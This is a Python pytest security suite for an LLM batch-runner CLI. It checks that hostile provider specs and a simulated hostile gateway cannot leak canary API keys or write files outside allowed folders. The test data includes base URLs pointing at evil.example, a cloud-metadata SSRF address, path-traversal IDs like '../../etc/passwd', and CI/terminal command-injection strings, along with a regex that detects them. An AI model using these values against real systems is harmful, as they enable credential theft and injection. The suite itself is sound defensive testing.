"""The table of docs/security.md: what a stranger can do under each command. Each cell is a test.

Canary keys of every sort lie in the environment; an internet of our own sees what leaves for which host.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from tests.security.conftest import CANARY, GATEWAY, SPEC, Corp
from tests.security.internet import Answer, Seen
from tests.security.test_gittree import git

COMMANDS = {
    "validate": ("validate",),
    "render": ("render", "answers"),
    "plan": ("plan", "--diff"),
    "explain": ("explain", "answers"),
    "status": ("status",),
    "show": ("show", "answers"),
    "apply": ("apply", "-y", "--no-wait", "--confirm-repay"),
    "try": ("try", "answers"),
    "rehearse": ("apply", "--rehearse"),
    "fetch": ("fetch", "answers", "--to", "raw"),
    "cancel": ("cancel", "answers"),
    "retry": ("retry", "answers", "--replace"),
    "state": ("state", "accept-origin", "corp"),
    "keys": ("keys", "list"),
    "report": ("report", "--out", "shown/report.html"),
    "diff": ("diff", "answers", "answers", "-o", "markdown"),
    "export": ("export", "answers", "shown/answers.csv"),
    "lock": ("lock",),
    "verify": ("verify",),
    "prune": ("prune", "-y"),
    "doctor": ("doctor",),
    "cost": ("cost",),
    "history": ("history",),
}
READS_NO_STATE = ("validate", "render", "keys", "diff", "export")
WRITES = {"report": "shown", "export": "shown", "lock": "runner.lock"}
KEYS = {
    "OPENAI_API_KEY": "canary-openai-0001",
    "GROQ_API_KEY": "canary-groq-0002",
    "FIREWORKS_API_KEY": "canary-fireworks-0003",
    "AZURE_OPENAI_API_KEY": "canary-azure-0004",
    "AWS_SECRET_ACCESS_KEY": "canary-aws-0005",
    "GITHUB_TOKEN": "canary-github-0006",
    "OTHER_KEY": "canary-other-0007",
    "OPENAI_ORG_ID": "canary-org-0008",
}
IN_A_FILE = "canary-file-0009"
EVIL = "https://evil.example/v1"
HIS = "kind: openai, base_url: URL"

# What a pull request may write under `providers:`; the provider of the job is the first word.
SPECS = {
    "a vendor's address": "openai: {base_url: URL}",
    "another vendor's": "groq: {base_url: URL}",
    "one without a path": "fireworks: {account: acme, base_url: 'https://evil.example'}",
    "his own, a vendor's key": f"corp: {{{HIS}, api_key_env: OPENAI_API_KEY}}",
    "his own, a cloud's key": f"corp: {{{HIS}, api_key_env: AWS_SECRET_ACCESS_KEY}}",
    "his own, a forge's token": f"corp: {{{HIS}, api_key_env: GITHUB_TOKEN}}",
    "his own, our key": f"corp: {{{HIS}, api_key_env: CORP_KEY}}",
    "his own, another key": f"corp: {{{HIS}, api_key_env: OTHER_KEY}}",
    "his own, a key in a file": f"corp: {{{HIS}, api_key_env: FILED_KEY}}",
    "his own, no key": f"corp: {{{HIS}, overrides: {{auth: {{header: ''}}}}}}",
    "his own, a key as a header": f"corp: {{{HIS}, headers_env: {{X-A: CORP_KEY}}, "
    "overrides: {auth: {header: ''}}}",
    "our host, another port": "corp: {kind: openai, base_url: 'https://gw.corp.example:8443/v1', "
    "api_key_env: CORP_KEY}",
    "our host, in the clear": "corp: {kind: openai, base_url: 'http://gw.corp.example/v1', api_key_env: CORP_KEY, "
    "insecure_http: true}",
    "our host, another key": "corp: {kind: openai, base_url: 'https://gw.corp.example/v1', api_key_env: OTHER_KEY}",
    "our host in front of his": f"corp: {{{HIS.replace('URL', 'https://gw.corp.example.evil.example/v1')}, "
    "api_key_env: CORP_KEY}",
    "our key to a vendor": "openai: {api_key_env: CORP_KEY}",
    "a vendor's key to another": "openai: {api_key_env: GROQ_API_KEY}",
    "a header of the connection": "corp: {kind: openai, base_url: 'https://gw.corp.example/v1', api_key_env: CORP_KEY, "
    "headers: {Host: evil.example}}",
    "the inner network": "corp: {kind: openai, base_url: 'http://169.254.169.254/latest', insecure_http: true, "
    "overrides: {auth: {header: ''}}}",
}  # fmt: skip


@pytest.fixture
def environ(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "a-key").write_text(IN_A_FILE)
    return {**KEYS, "FILED_KEY_FILE": str(tmp_path / "a-key")}


@pytest.fixture
def in_flight(corp: Corp, environ: dict[str, str]) -> Corp:
    """A project with a batch at the gateway that was not collected yet."""
    corp.apply("--no-wait", code=3, **environ)
    assert corp.net.hosts_that_saw(CANARY) == {GATEWAY}
    corp.run("lock", **environ)
    return corp


def says(corp: Corp, provider: str) -> None:
    name = provider.partition(":")[0]
    spec = SPEC.replace("provider: corp", f"provider: {name}")
    spec = spec[: spec.index("providers:")].format()
    (corp.root / "specs/lab.yaml").write_text(f"{spec}providers:\n  {provider.replace('URL', EVIL)}\n")


def nothing_left(corp: Corp) -> None:
    """No key went anywhere but to its own host."""
    assert corp.net.hosts_that_saw(CANARY) <= {GATEWAY}
    for canary in (*KEYS.values(), IN_A_FILE):
        assert corp.net.hosts_that_saw(canary) == set()
    assert set(corp.net.connects) <= {f"{GATEWAY}:443"}


@pytest.mark.parametrize("command", COMMANDS)
def test_untrusted_specs(in_flight: Corp, environ: dict[str, str], command: str) -> None:
    """Whatever they say: no host is asked that nobody allowed, with a key or without."""
    for provider in SPECS.values():
        says(in_flight, provider)
        done = in_flight.run(*COMMANDS[command], code=None, **environ)
        nothing_left(in_flight)
        if command in ("apply", "try"):
            assert done.returncode in ((1, 5) if command == "apply" else (1, 4, 5)), (
                provider,
                done.stdout,
                done.stderr,
            )
        assert not any(canary in done.stdout + done.stderr for canary in (*KEYS.values(), CANARY, IN_A_FILE))
    if command == "prune":
        assert not any(seen.method == "DELETE" for seen in in_flight.net.seen)  # and nothing was deleted
    if command == "apply":
        assert in_flight.mine() == 1  # and nothing was sent to anybody


@pytest.mark.parametrize("command", COMMANDS)
def test_a_committed_state(in_flight: Corp, environ: dict[str, str], command: str) -> None:
    """It is read by no command."""
    git(in_flight.root, "init")
    git(in_flight.root, "add", "-f", ".")
    in_flight.net.seen.clear()
    in_flight.net.connects.clear()
    done = in_flight.run(*COMMANDS[command], code=None, **environ)
    if command == "doctor":  # it says so, and goes on looking at what else there is
        assert done.returncode == 1 and "git tracks" in done.stdout
        nothing_left(in_flight)
        return
    assert in_flight.net.connects == []
    if command in READS_NO_STATE:
        assert done.returncode == 0 or "results yet" in done.stderr
        assert "git tracks" not in done.stderr
    else:
        assert done.returncode == 5
        assert "git tracks" in done.stderr


HOSTILE = {
    "redirects": lambda seen: Answer(307, b"", location=f"https://evil.example{seen.path}"),
    "says the key back": lambda seen: Answer(401, json.dumps({"error": {"message": str(dict(seen.headers))}}).encode()),
    "an answer of another shape": lambda seen: Answer(200, b'[{"id": ["../../etc/passwd"]}]'),
    "names paths": lambda seen: Answer(
        200,
        json.dumps(
            {"object": "batch", "id": "../../../evil", "status": "completed", "output_file_id": "/etc/passwd",
             "input_file_id": "../x", "error_file_id": "..", "data": [], "has_more": False}
        ).encode(),
    ),
    "words a terminal or a CI obeys": lambda seen: Answer(
        500,
        json.dumps({"error": {"message": "\x1b[2J\n::error::owned\r\n##vso[task.setvariable]b"}}).encode(),
        retry_after_ms="20",
    ),
}  # fmt: skip
OBEYED = re.compile("^\\s*::|##vso\\[|##\\[|[\x00-\x08\x0b-\x1f\x7f-\x9f]", re.MULTILINE)


@pytest.mark.parametrize("command", COMMANDS)
def test_a_hostile_remote(in_flight: Corp, environ: dict[str, str], command: str) -> None:
    """It has the key it was given and the rows it was sent; it gets nothing else, and writes nothing but answers."""
    before = {path for path in in_flight.root.rglob("*") if ".runner" not in path.parts}
    outside = set(in_flight.root.parent.iterdir())
    for site in HOSTILE.values():
        in_flight.net.sites[GATEWAY] = site
        done = in_flight.run(*COMMANDS[command], code=None, **environ)
        nothing_left(in_flight)
        assert CANARY not in done.stdout + done.stderr
        assert not OBEYED.search(done.stdout + done.stderr), ascii(done.stdout + done.stderr)
    written = {path for path in in_flight.root.rglob("*") if ".runner" not in path.parts} - before
    allowed = {"results", "raw", WRITES.get(command, "raw")}
    assert all(path.relative_to(in_flight.root).parts[0] in allowed for path in written)
    assert set(in_flight.root.parent.iterdir()) == outside


@pytest.mark.parametrize("command", COMMANDS)
def test_committed_results(corp: Corp, environ: dict[str, str], command: str) -> None:
    """Answers in a results file are believed, by design: whoever may write them may write the data too."""
    corp.apply(**environ)
    corp.run("lock", **environ)
    output = corp.root / "results/answers.jsonl"
    output.write_text(output.read_text().replace("echo: Say", "FORGED: Say"))
    corp.forget()
    corp.net.seen.clear()
    done = corp.run(*COMMANDS[command], code=None, **environ)
    nothing_left(corp)
    assert not any(seen.method == "POST" and seen.path.endswith("/batches") for seen in corp.net.seen), done.stderr
    if command == "try":
        assert done.returncode == 0 and "FORGED" in done.stdout
        assert not any(seen.path.endswith("/chat/completions") for seen in corp.net.seen)
    if command == "apply":
        assert done.returncode == 0, done.stderr
        assert all(row["answer"].startswith("FORGED") for row in corp.results())
    if command == "prune":  # a batch that this clone never had on record stays for a week, whoever has its answers
        assert "DELETE" not in [seen.method for seen in corp.net.seen]
    if command == "verify":
        assert done.returncode == 1
        assert "these are not the results that were locked" in done.stderr
    if command == "export":
        assert "FORGED: Say" in (corp.root / "shown/answers.csv").read_text()


def test_the_table_names_these_tests() -> None:
    text = (Path(__file__).parents[2] / "docs/security.md").read_text()
    for name in ("test_untrusted_specs", "test_a_committed_state", "test_a_hostile_remote", "test_committed_results"):
        assert f"`{name}`" in text
    for command in COMMANDS:
        assert re.search(rf"^\| `{command}` \|", text, re.MULTILINE), command


def test_two_hosts_of_this_machine(corp: Corp) -> None:
    """A server on this machine needs no binding; one that redirects to another address gives it no key."""
    from tests.security.internet import listening

    def there(seen: Seen) -> Answer:
        return Answer(404)

    with listening(there) as second:
        for where in (f"http://127.0.0.2:{second.port}", f"http://localhost:{second.port}"):

            def first(seen: Seen, where: str = where) -> Answer:
                return Answer(307, b"", location=f"{where}{seen.path}")

            with listening(first) as server:
                spec = SPEC.replace("https://gw.corp.example", f"http://127.0.0.1:{server.port}")
                corp.spec(spec)
                for words in (("apply", "-y", "--no-wait"), ("plan",), ("status",)):
                    corp.run(*words, code=None)
                assert any(seen.holds(CANARY) for seen in server.seen)
        assert not any(seen.holds(CANARY) for seen in second.seen)
